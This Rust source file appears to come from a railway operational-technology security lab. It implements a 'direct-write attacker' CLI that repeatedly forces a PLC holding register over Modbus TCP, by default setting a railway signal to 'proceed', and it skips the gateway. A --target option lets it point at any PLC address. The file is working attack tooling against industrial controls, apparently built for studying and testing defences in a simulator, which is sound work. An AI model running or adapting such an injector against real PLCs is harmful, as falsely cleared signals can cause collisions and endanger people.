//! Direct-write attacker: keeps forcing one holding register on the PLC, bypassing the gateway.

use std::path::PathBuf;
use std::time::Duration;

use anyhow::Context;
use clap::Parser;
use tokio::sync::watch;

use railway_ot_lab::rail::adapters::link::modbus_tcp::ModbusTcpLink;
use railway_ot_lab::rail::adapters::storage::load_config_or_default;
use railway_ot_lab::rail::usecase::injector::{run_forcing, ForceSettings};

#[derive(Parser, Debug)]
#[command(name = "sig_injector", about = "Force a PLC holding register (default SigBC = proceed)")]
struct Args {
    /// Lab config file (lab.v1.json); target and unit id come from the simulator section
    #[arg(long)]
    config: Option<PathBuf>,

    /// PLC address, overrides simulator.plcAddr
    #[arg(long)]
    target: Option<String>,

    #[arg(long, default_value_t = 1)]
    register: u16,

    #[arg(long, default_value_t = 1)]
    value: u16,

    #[arg(long, default_value_t = 100)]
    interval_ms: u64,
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info")).init();
    let args = Args::parse();

    let mut config =
        load_config_or_default(args.config.as_deref()).context("failed to load lab config")?;
    if let Some(target) = args.target {
        config.simulator.plc_addr = target;
    }

    let mut link = ModbusTcpLink::from_config(&config.simulator)?;
    let settings = ForceSettings {
        register: args.register,
        value: args.value,
        interval: Duration::from_millis(args.interval_ms.max(1)),
        ..ForceSettings::default()
    };

    let (stop_tx, stop_rx) = watch::channel(false);
    let task = tokio::spawn(async move { run_forcing(&mut link, settings, stop_rx).await });

    tokio::signal::ctrl_c().await?;
    let _ = stop_tx.send(true);
    let stats = task.await?;
    log::info!(
        "[injector] done: {} writes, {} failures, {} connects",
        stats.writes,
        stats.failures,
        stats.connects
    );
    Ok(())
}
